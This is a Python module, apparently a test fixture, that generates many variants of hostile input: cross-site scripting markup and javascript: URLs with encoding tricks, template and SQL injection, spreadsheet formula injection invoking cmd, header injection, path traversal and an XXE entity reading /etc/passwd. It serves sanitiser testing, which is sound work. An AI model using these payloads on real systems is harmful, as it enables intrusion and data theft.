"""Texts of people with bad intent: families, each in many variations. What runs, calls `gekaapt()`."""

from collections.abc import Callable, Iterator, Sequence
from html import escape
from urllib.parse import quote

ELSEWHERE = "kwaad.example"
"""Nothing is ever asked there."""
CALL = "gekaapt()"
MARKUP: Sequence[str] = (
    f"<script>{CALL}</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=//{ELSEWHERE}/x.swf>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<math><a xlink:href=javascript:{CALL}>x</a></math>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<style>@import '//{ELSEWHERE}/x.css'</style>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<div hx-get=//{ELSEWHERE}/ hx-trigger=load>x</div>",
    f"<div style=background:url(//{ELSEWHERE}/x)>x</div>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
)
_BREAKOUTS = ('">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "]]>", "</p></main>")
_DISGUISES: Sequence[Callable[[str], str]] = (
    str.swapcase,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(
        ">", "\N{FULLWIDTH GREATER-THAN SIGN}"
    ),
    lambda text: text.replace("<", "<\0"),
)
_ATTRIBUTES = ('" {0}="{1}', "' {0}='{1}", "` {0}={1} `", '"\t{0}={1}//')
_HANDLERS = ("onmouseover", "onfocus autofocus", "onanimationstart", "style=x onclick")
_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"%6Aavascript:{CALL}",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZ2VrYWFwdCgpPC9zY3JpcHQ+",
    f"vbscript:{CALL}",
    "file:///etc/passwd",
    f"//{ELSEWHERE}/",
)
_LINKS = (
    "[x]({0})",
    "[x](<{0}>)",
    "[x]: {0}\n\n[x]",
    "<{0}>",
    "![x]({0})",
    '[x]({0} "titel")',
    '<a href="{0}">x</a>',
    "[![x]({0})]({0})",
)
_OTHERS: Sequence[str] = (
    "{{ 7|add:7 }}",
    "{% load static %}",
    "{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('gekaapt()')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<c-alert type='info'>x</c-alert>",
    "'; DROP TABLE library_item; --",
    "' OR '1'='1",
    '=HYPERLINK("https://kwaad.example/";"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\r\nSet-Cookie: a=1",
    "%0d%0aSet-Cookie:%20a=1",
    "../../../../etc/passwd",
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "a\N{ZERO WIDTH SPACE}b\N{SOFT HYPHEN}c",
    "Z" + "\N{COMBINING ACUTE ACCENT}" * 60,
    "\N{PILE OF POO}" * 30,
    "nul\0byte",
    "<!--#exec cmd='ls'-->",
    "<?php gekaapt(); ?>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "`gekaapt()`",
    "~~~\n<script>gekaapt()</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=gekaapt()> | x |",
    "> > > > <script>gekaapt()</script>",
    "*" * 2_000,
    "[" * 2_000,
    "a" * 10_000,
    "<div>" * 3_000 + "diep",
)


def payloads() -> Sequence[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from MARKUP
    yield from (before + markup for before in _BREAKOUTS for markup in MARKUP)
    yield from (disguise(markup) for disguise in _DISGUISES for markup in MARKUP)
    yield from (shape.format(name, CALL) for shape in _ATTRIBUTES for name in _HANDLERS)
    yield from (shape.format(address) for shape in _LINKS for address in _ADDRESSES)
    yield from _OTHERS
